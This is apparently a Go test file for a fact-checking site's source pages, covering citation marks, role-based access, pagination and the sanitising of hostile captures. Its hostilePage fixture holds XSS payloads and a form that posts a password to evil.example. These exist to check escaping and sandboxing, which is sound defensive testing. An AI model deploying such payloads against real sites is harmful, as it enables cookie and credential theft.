package web

import (
	"context"
	"crypto/sha256"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"assay"
	"assay/internal/check"
	"assay/internal/desk"
	"assay/internal/extract"
	"assay/internal/library/sqlite"
	"assay/internal/source"
)

func TestReadSource(t *testing.T) {
	d := openReadDesk(t)
	first := d.reports[0]
	cited := first.Sources[first.Summary[0].Citations[0].N-1]
	anchor := first.Summary[0].Citations[0].Anchor
	for _, address := range []string{"/sources/" + cited.Document, "/sources/" + cited.Document + "?report=checks/saved-thousands"} {
		p := d.page(t, desk.Visitor, address)
		if got := words(p, fmt.Sprintf("mark#p%d", anchor.Start)); got != anchor.Quote {
			t.Errorf("%s: marked %q, want %q", address, got, anchor.Quote)
		}
		if len(all(p, `.used a[href="/checks/saved-thousands#s1"]`)) == 0 {
			t.Errorf("%s: no way back to the sentence", address)
		}
		if len(all(p, "h1")) != 1 || words(p, ".about") == "" {
			t.Errorf("%s: the page lacks a part", address)
		}
	}
	if p := d.page(t, desk.Visitor, "/sources/"+cited.Document+"?at=3-9"); words(p, "mark#p3") == "" {
		t.Error("a passage that an address asks for is not marked")
	}
	for _, at := range []string{"-1", "9-3", "999999999999999999999", "3-99999999", "x", "-", "3-", "%00"} {
		d.page(t, desk.Visitor, "/sources/"+cited.Document+"?at="+at)
	}
	// A source whose origin others share names them with the signal.
	shared := slices.IndexFunc(first.Origins, func(o assay.Origin) bool { return len(o.Members) > 3 })
	p := d.page(t, desk.Visitor, "/sources/"+first.Origins[shared].Members[0])
	if n := len(all(p, ".family li")); n < len(first.Origins[shared].Members) {
		t.Errorf("%d members of the family, the report has %d", n, len(first.Origins[shared].Members))
	}
	for _, missing := range []string{"/sources/0123456789ab", "/sources/x", "/sources/%00"} {
		if w := d.as(desk.Visitor, "GET", missing); w.Code != http.StatusNotFound && w.Code != http.StatusBadRequest {
			t.Errorf("%s: %d", missing, w.Code)
		}
	}
	// What a draft rests on is not told to whoever may not read it.
	draft := d.reports[1]
	i := slices.IndexFunc(draft.Sources, func(s assay.Source) bool { return !cites(first, s.Document) })
	if i < 0 {
		t.Fatal("the draft cites nothing of its own")
	}
	address := "/sources/" + draft.Sources[i].Document
	for _, query := range []string{"?report=reports/" + draft.ID, "?report=" + draft.ID} {
		if got, want := d.as(desk.Visitor, "GET", address+query).Body.String(), d.as(desk.Visitor, "GET", address+"?report=reports/none").Body.String(); got != want {
			t.Errorf("%s: a visitor sees another page than for a report that there is not", query)
		}
		if p := d.page(t, desk.Editor, address+query); len(all(p, "mark")) == 0 {
			t.Errorf("%s: an editor sees no mark", query)
		}
	}
}

// TestEverySource: each document of the library has a page, and quickly.
func TestEverySource(t *testing.T) {
	d := openReadDesk(t)
	documents, err := d.library.Documents(t.Context(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	for _, doc := range documents {
		if w := d.as(desk.Visitor, "GET", "/sources/"+doc.ID); w.Code != http.StatusOK || w.Body.Len() > 200_000 {
			t.Errorf("%s: %d, %d bytes", doc.Location, w.Code, w.Body.Len())
		}
	}
}

// hostileLibrary holds pages made to break out of what shows them.
func hostileLibrary(t *testing.T, pages map[string]string) (*sqlite.Library, map[string]assay.Document) {
	t.Helper()
	lib, err := sqlite.Memory(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { lib.Close() })
	x := extract.New(extract.Config{})
	t.Cleanup(func() { x.Close() })
	var items []source.Item
	for name, body := range pages {
		c := assay.Capture{Bytes: []byte(body), MediaType: "text/html", Location: name}
		if strings.HasSuffix(name, ".txt") {
			c.MediaType = "text/plain"
		}
		c.SHA256 = fmt.Sprintf("%x", sha256.Sum256(c.Bytes))
		items = append(items, source.Item{Capture: c})
	}
	if _, err := check.Ingest(t.Context(), check.Reading{
		Sources: slices.Values(items), Store: lib,
		Extract: func(ctx context.Context, c assay.Capture) (assay.Document, error) {
			return x.Extract(ctx, c, extract.Options{})
		},
	}); err != nil {
		t.Fatal(err)
	}
	documents := map[string]assay.Document{}
	list, err := lib.Documents(t.Context(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range list {
		documents[d.Location] = d
	}
	return lib, documents
}

const hostilePage = `<html><head><title>A &lt;script&gt;alert(1)&lt;/script&gt; "title" ' onload=x</title><meta http-equiv="refresh" content="0;url=//evil.example">
<base href="https://evil.example/"></head><body onload="alert(1)"><article><h1>Harbour &#x202e;lairt</h1>
<p>The harbour master said that 40 boats left the harbour on Monday, and &lt;img src=x onerror=alert(1)&gt; that more would follow within the week.</p>
<p>He added that the pier would be closed for repairs until the end of the month, when the council meets to decide on the work.</p>
<form action="https://evil.example/steal"><input name="password"></form><script>alert(document.cookie)</script><iframe src="javascript:alert(1)"></iframe>
<svg onload="alert(1)"></svg><a href="javascript:alert(1)">a link</a></article></body></html>`

// TestHostileSources: nothing that a page brought becomes markup of this site, a
// capture is handed out as a file in a sandbox, and a long text does not make a long page.
func TestHostileSources(t *testing.T) {
	long := strings.Repeat("The harbour master counted boats and wrote the number down, as on every day. ", 10_000) // 780 kB, one line
	lib, documents := hostileLibrary(t, map[string]string{"hostile.html": hostilePage, "long.txt": long})
	config := exampleLibrary().config
	config.Library = lib
	s, err := New(Config{Library: lib, Check: config, Desk: desk.New(lib, desk.Options{})})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	s.routes(mux)
	d := &readDesk{Server: s, mux: mux}
	page := documents["hostile.html"]
	p := d.page(t, desk.Visitor, "/sources/"+page.ID)
	for _, selector := range []string{"main script", "main form", "main iframe", "main svg", "main base", "main [onload]", "main img", `a[href^="javascript"]`, `meta[http-equiv="refresh"]`} {
		if len(all(p, selector)) > 0 {
			t.Errorf("the page holds %s", selector)
		}
	}
	if !strings.Contains(words(p, ".stored"), "<img src=x onerror=alert(1)>") {
		t.Errorf("the stored words are not shown as they are: %q", words(p, ".stored"))
	}
	w := d.as(desk.Visitor, "GET", "/captures/"+page.CaptureSHA256)
	h := w.Header()
	if w.Code != http.StatusOK || w.Body.String() != hostilePage {
		t.Errorf("the capture: %d, %d bytes", w.Code, w.Body.Len())
	}
	for name, want := range map[string]string{
		"Content-Type": "application/octet-stream", "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "sandbox; default-src 'none'",
		"Content-Disposition": `attachment; filename="capture-` + page.CaptureSHA256[:12] + `.txt"`, "Cross-Origin-Resource-Policy": "same-origin",
	} {
		if got := h.Get(name); got != want {
			t.Errorf("a capture's %s is %q, want %q", name, got, want)
		}
	}
	text := documents["long.txt"]
	seen := 0
	for address := "/sources/" + text.ID; address != ""; {
		w := d.as(desk.Visitor, "GET", address)
		if w.Code != http.StatusOK || w.Body.Len() > 3*pageBytes || !utf8.Valid(w.Body.Bytes()) {
			t.Fatalf("%s: %d, %d bytes", address, w.Code, w.Body.Len())
		}
		p := d.page(t, desk.Visitor, address)
		seen++
		address = ""
		if next := all(p, `.turns a[rel="next"]`); len(next) > 0 {
			address = attr(next[0], "href")
		}
	}
	if want := len(long)/pageBytes + 1; seen < want-1 || seen > want+1 {
		t.Errorf("%d pages for %d bytes", seen, len(long))
	}
}

// TestCapturesByRole: who may not have captures is asked to sign in, or refused.
func TestCapturesByRole(t *testing.T) {
	d := openReadDesk(t)
	site := d.Config
	site.Site.CapturesBy = desk.Editor
	s, err := New(site)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	s.routes(mux)
	d = &readDesk{Server: s, mux: mux, readLibrary: d.readLibrary}
	address := "/captures/" + d.reports[0].Sources[0].CaptureSHA256
	for role, want := range map[desk.Role]int{desk.Visitor: http.StatusSeeOther, desk.Reader: http.StatusForbidden, desk.Editor: http.StatusOK} {
		if w := d.as(role, "GET", address); w.Code != want {
			t.Errorf("%q: %d, want %d", role, w.Code, want)
		}
	}
	if p := d.page(t, desk.Visitor, "/sources/"+d.reports[0].Sources[0].Document); len(all(p, `a[href^="/captures/"]`)) > 0 {
		t.Error("a visitor is offered a capture that is not for visitors")
	}
}

// TestMarkText: whatever the uses, the pieces of all pages are the text, and each
// passage begins once.
func TestMarkText(t *testing.T) {
	text := "One two three.\nFour five six seven.\n\n" + strings.Repeat("é", pageBytes) + " end"
	at := strings.IndexRune(text, 'é') + pageBytes - 200
	uses := []sourceUse{{Start: 0, End: 7}, {Start: 4, End: 14, ID: "s2"}, {Start: 4, End: 20}, {Start: at, End: at + 200}}
	var b strings.Builder
	ids := map[string]int{}
	for from := 0; from >= 0; {
		part := markText(text, from, uses)
		for _, l := range part.Lines {
			for _, p := range l.Pieces {
				b.WriteString(p.Text)
				if p.ID != "" {
					ids[p.ID]++
				}
			}
		}
		from = part.After
	}
	squeeze := func(s string) string { return strings.Join(strings.Fields(s), "") }
	if squeeze(b.String()) != squeeze(text) {
		t.Errorf("the pages hold %d bytes of text, want %d", b.Len(), len(text))
	}
	for _, id := range []string{"p0", "p4", fmt.Sprintf("p%d", at)} {
		if ids[id] != 1 {
			t.Errorf("%s begins %d times", id, ids[id])
		}
	}
}
